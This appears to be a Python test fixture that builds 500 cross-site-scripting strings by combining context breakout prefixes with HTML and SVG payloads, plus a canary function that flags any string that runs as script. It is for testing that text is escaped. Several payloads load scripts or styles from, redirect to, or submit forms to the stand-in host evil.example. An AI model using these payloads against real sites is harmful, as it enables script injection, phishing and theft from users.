"""500 hostile texts: each would make an element or run a script wherever a text is taken for markup."""

from itertools import islice, product

CANARY = "window.canary = () => console.error('a text ran as a script')"
"""Gives every page the function that must never be called: a window fails the test when its console has an error."""

_BREAKOUTS = (
    "",
    '">',
    "'>",
    "</span>",
    "</p></button></li>",
    "</script>",
    "</style>",
    "</title>",
    "</textarea></select></option>",
    "-->",
    "]]>",
    "</svg></math>",
    "\x00\u202e",
    "\\x22\\x3e",
    "`${",
    '" autofocus onfocus=canary() x="',
    "' onclick=canary() x='",
    "javascript:/*--></title></style></textarea></script></xmp>",
    "&quot;&gt;",
    "\u2028\u2029",
)
_PAYLOADS = (
    "<script>canary()</script>",
    "<script src='https://evil.example/a.js'></script>",
    "<img src=x onerror=canary()>",
    "<img src=data:, onerror='canary()'>",
    "<svg onload=canary()>",
    "<svg><script>canary()</script></svg>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    "<iframe src='javascript:parent.canary()'></iframe>",
    "<object data='javascript:canary()'></object>",
    "<embed src='https://evil.example/'>",
    "<details open ontoggle=canary()>",
    "<input autofocus onfocus=canary()>",
    "<video><source onerror=canary()></video>",
    "<audio src=x onerror=canary()></audio>",
    "<body onload=canary()>",
    "<marquee onstart=canary()>x</marquee>",
    "<a href='javascript:canary()'>press</a>",
    "<form action='https://evil.example/'><button>Approve</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<style>@import 'https://evil.example/a.css'; * { display: none }</style>",
    "<base href='https://evil.example/'>",
    "<math><mtext></table><mglyph><style><img src=x onerror=canary()>",
    "<template><img src=x onerror=canary()></template>",
)
TEXTS = tuple(before + payload for before, payload in islice(product(_BREAKOUTS, _PAYLOADS), 500))
